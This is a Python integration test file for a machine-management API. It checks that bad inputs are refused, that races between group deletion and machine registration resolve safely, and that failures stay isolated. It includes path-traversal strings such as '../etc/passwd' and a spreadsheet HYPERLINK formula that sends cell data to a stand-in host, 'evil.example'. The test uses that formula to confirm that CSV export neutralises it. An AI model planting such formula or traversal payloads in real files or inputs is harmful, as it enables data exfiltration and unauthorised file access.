"""Issue 12, items 6, 13 and 15 through the real api (and scheduler): every bad input gets a 4xx with
its own code and nothing is appended; races between group deletion and registration never leave a
deleted group holding machines; one scenario that cannot run fails only its own execution."""

from __future__ import annotations

import asyncio
import uuid

import pytest

from dpm_runtime.eventlog import NO_STREAM
from dpm_runtime.testing import eventually
from dpm_runtime.testing.services import running
from dpm_schemas import Metadata, NewEvent, subjects
from dpm_schemas.events import GroupDeleted, ScenarioSaved
from dpm_schemas.events.scenarios import ScenarioKind, ScenarioSpec
from dpm_schemas.ids import stream_id

pytestmark = pytest.mark.integration


def error(answer) -> tuple[int, str]:
    return answer.status_code, answer.json()["error"]["code"]


async def legacy_scenario(api, name: str, spec: ScenarioSpec) -> None:
    """A scenario saved before save-time validation existed: appended to the log as it was then."""
    saved = ScenarioSaved(scenario_id=uuid.uuid4(), revision=1, name=name, spec=spec)
    result = await api.runtime.eventlog.append(
        stream_id(subjects.SCENARIO, saved.scenario_id), NO_STREAM, [NewEvent(saved, Metadata.new(actor="old"))]
    )
    await api.runtime.projections["scenarios"].wait_for(result.position, timeout=5)


async def test_bad_scenarios_are_refused_at_save_and_unimplemented_kinds_at_run(api_service, auth) -> None:
    async with running(api_service(), headers=auth) as api:
        for seconds in ("inf", "1e30", "nan"):
            spec = {"kind": "simulated", "params": {"seconds": seconds}}
            assert error(await api.http.post("/scenarios", json={"name": "s", "spec": spec})) == (422, "DPM-E114")
        for kind in ("os-install", "firmware"):
            answer = await api.http.post("/scenarios", json={"name": "k", "spec": {"kind": kind}})
            assert error(answer) == (422, "DPM-E115") and "not available yet" in answer.json()["error"]["message"]
        for params, code in (
            ({}, "DPM-E114"),  # packages is required
            ({"packages": "ok,no good"}, "DPM-E282"),
            ({"packages": "a", "when": "later"}, "DPM-E282"),
            ({"packages": "a", "when": "at-time"}, "DPM-E282"),  # at-time needs at
            ({"packages": "a", "when": "at-time", "at": "2027-01-01T00:00:00"}, "DPM-E282"),  # no zone
            ({"packages": "a", "rings": "2"}, "DPM-E114"),
        ):
            spec = {"kind": "remote-update", "params": params}
            assert error(await api.http.post("/scenarios", json={"name": "u", "spec": spec})) == (422, code), params
        for image in ("../etc/passwd", "backups/../../x", "/abs/{machine}", "x/{nope}"):
            spec = {"kind": "backup", "params": {"image": image}}
            assert error(await api.http.post("/scenarios", json={"name": "b", "spec": spec})) == (422, "DPM-E162")
        assert (await api.http.get("/scenarios")).json() == []  # nothing was saved

        machine = await api.http.post("/machines", json={"name": "pc1", "macs": ["52:54:00:aa:00:01"]})
        for kind in (ScenarioKind.OS_INSTALL, ScenarioKind.FIRMWARE):
            await legacy_scenario(api, f"legacy-{kind.value}", ScenarioSpec(kind=kind))  # saved before the refusal
            refused = await api.http.post(
                f"/scenarios/legacy-{kind.value}/runs", json={"machines": [machine.json()["machine_id"]]}
            )
            assert error(refused) == (422, "DPM-E115"), kind
        assert (await api.http.get("/executions")).json() == []


async def test_bad_machine_data_is_refused_everywhere_it_enters(api_service, auth) -> None:
    async with running(api_service(), headers=auth) as api:
        for mac in ("ff:ff:ff:ff:ff:ff", "01:00:5e:00:00:01", "00-00-00-00-00-00"):
            answer = await api.http.post("/machines", json={"name": "pc1", "macs": [mac]})
            assert error(answer) == (422, "DPM-E109")
            imported = await api.http.post("/machines/import", content=f"name,macs\npc1,{mac}\n")
            assert error(imported) == (422, "DPM-E110") and "no network card" in imported.json()["error"]["message"]
        assert (await api.http.get("/machines")).json() == []

        first = await api.http.post("/machines", json={"name": "web-01", "macs": ["52:54:00:bb:00:01"]})
        assert first.status_code == 201
        twin = await api.http.post("/machines", json={"name": "WEB-01", "macs": ["52:54:00:bb:00:02"]})
        assert error(twin) == (409, "DPM-E111")
        other = await api.http.post("/machines", json={"name": "web-02", "macs": ["52:54:00:bb:00:03"]})
        taken = await api.http.put(
            f"/machines/{other.json()['machine_id']}", json={"name": "web-01", "macs": ["52:54:00:bb:00:03"]}
        )
        assert error(taken) == (409, "DPM-E111")
        csv_twin = await api.http.post("/machines/import", content="name,macs\nweb-01,52:54:00:bb:00:09\n")
        assert error(csv_twin) == (422, "DPM-E110") and "DPM-E111" in csv_twin.json()["error"]["message"]
        # a deleted machine frees its name
        await api.http.delete(f"/machines/{first.json()['machine_id']}")
        again = await api.http.post("/machines", json={"name": "web-01", "macs": ["52:54:00:bb:00:04"]})
        assert again.status_code == 201, again.text

        # concurrent registrations of one name: exactly one wins
        racers = await asyncio.gather(
            *(api.http.post("/machines", json={"name": "race", "macs": [f"52:54:00:cc:00:{i:02x}"]}) for i in range(6))
        )
        assert sorted(r.status_code for r in racers) == [201] + [409] * 5
        assert [m["name"] for m in (await api.http.get("/machines")).json()].count("race") == 1


async def test_machines_csv_export_quotes_formulas(api_service, auth) -> None:
    async with running(api_service(), headers=auth) as api:
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
        answer = await api.http.post(
            "/machines", json={"name": "pc1", "macs": ["52:54:00:dd:00:01"], "os_type": formula}
        )
        assert answer.status_code == 201, answer.text
        exported = (await api.http.get("/machines/export")).text
        assert "'=HYPERLINK" in exported and ",=HYPERLINK" not in exported and ',"=HYPERLINK' not in exported
        back = await api.http.post("/machines/import", params={"dry_run": "true"}, content=exported)
        assert back.json()["unchanged"] == 1  # the quote is read back off: the round trip stays lossless


async def test_bad_schedules_are_refused(api_service, auth) -> None:
    async with running(api_service(), headers=auth) as api:
        await api.http.post("/scenarios", json={"name": "q", "spec": {"kind": "simulated"}})
        await api.http.post("/machines", json={"name": "pc1", "macs": ["52:54:00:ee:00:01"]})
        base = {"name": "n", "action": "run", "scenario": "q"}
        never = await api.http.post("/schedules", json={**base, "machines": ["pc1"], "cron": "0 0 30 2 *"})
        assert error(never) == (422, "DPM-E166")
        assert error(await api.http.post("/schedules", json={**base, "group": "nowhere", "cron": "0 1 * * *"})) == (
            404,
            "DPM-E106",
        )
        assert error(await api.http.post("/schedules", json={**base, "machines": ["ghost"], "cron": "0 1 * * *"})) == (
            404,
            "DPM-E102",
        )
        assert (await api.http.get("/schedules")).json() == []


async def test_group_deletion_racing_registration_never_leaves_a_deleted_group_with_machines(api_service, auth) -> None:
    async with running(api_service(), headers=auth) as api:
        log = api.runtime.eventlog
        outcomes: set[tuple[int, int]] = set()
        for i in range(12):  # bounded: each round is one race
            group = f"g{i}"
            assert (await api.http.put(f"/groups/{group}", json={})).is_success
            joined, deleted = await asyncio.gather(
                api.http.post("/machines", json={"name": f"m{i}", "macs": [f"52:54:00:ff:00:{i:02x}"], "group": group}),
                api.http.delete(f"/groups/{group}"),
            )
            outcomes.add((joined.status_code, deleted.status_code))
            assert (joined.status_code, deleted.status_code) in ((201, 409), (404, 202)), (joined.text, deleted.text)
            if deleted.status_code == 409:
                assert deleted.json()["error"]["code"] == "DPM-E107"
            else:
                assert joined.json()["error"]["code"] == "DPM-E106"
        # the log agrees: no machine lives in a group whose last event is its deletion
        head = await log.head()
        await api.runtime.projections["machines"].wait_for(head, timeout=5)
        machines = (await api.http.get("/machines")).json()
        gone = {r.event.name for r in await log.read_all(limit=100_000) if isinstance(r.event, GroupDeleted)}
        assert not [m["name"] for m in machines if m["group_name"] in gone]
        groups = {g["name"] for g in (await api.http.get("/groups")).json()}
        assert all(m["group_name"] in groups for m in machines)


async def test_a_parameter_from_before_validation_fails_only_its_own_execution(
    api_service, scheduler_service, auth
) -> None:
    async with running(api_service(), headers=auth) as api, running(scheduler_service(scheduler_tick=0.1)):
        ids = []
        for i in range(2):
            r = await api.http.post("/machines", json={"name": f"sim{i}", "macs": [f"52:54:00:11:00:{i:02x}"]})
            ids.append(r.json()["machine_id"])
        for seconds, name in (("inf", "forever"), ("1e30", "huge")):
            await legacy_scenario(api, name, ScenarioSpec(kind=ScenarioKind.SIMULATED, params=(("seconds", seconds),)))
        assert (await api.http.post("/scenarios", json={"name": "quick", "spec": {"kind": "simulated",
                "params": {"seconds": "0.2"}}})).status_code == 201  # fmt: skip
        bad = (await api.http.post("/scenarios/forever/runs", json={"machines": [ids[0]]})).json()
        good = (await api.http.post("/scenarios/quick/runs", json={"machines": [ids[1]]})).json()

        async def final(run_id: str) -> dict:
            rows = (await api.http.get("/executions", params={"run_id": run_id})).json()
            return rows[0] if rows and rows[0]["state"] in ("completed", "failed") else {}

        failed = await eventually(lambda: final(bad["run_id"]), timeout=20, what="the bad execution failed")
        completed = await eventually(lambda: final(good["run_id"]), timeout=20, what="the good one completed")
        assert failed["state"] == "failed" and failed["code"] == "DPM-E116" and "Overflow" in failed["reason"]
        assert completed["state"] == "completed"
        # the engine keeps going: the machine is cleared and the next run on it completes too
        await api.http.post("/clear", json={"machines": [ids[0]]})
        huge = (await api.http.post("/scenarios/huge/runs", json={"machines": [ids[0]]})).json()
        assert (await eventually(lambda: final(huge["run_id"]), timeout=20, what="huge"))["code"] == "DPM-E116"
        await api.http.post("/clear", json={"machines": [ids[0]]})
        after = (await api.http.post("/scenarios/quick/runs", json={"machines": [ids[0]]})).json()
        assert (await eventually(lambda: final(after["run_id"]), timeout=20, what="after"))["state"] == "completed"
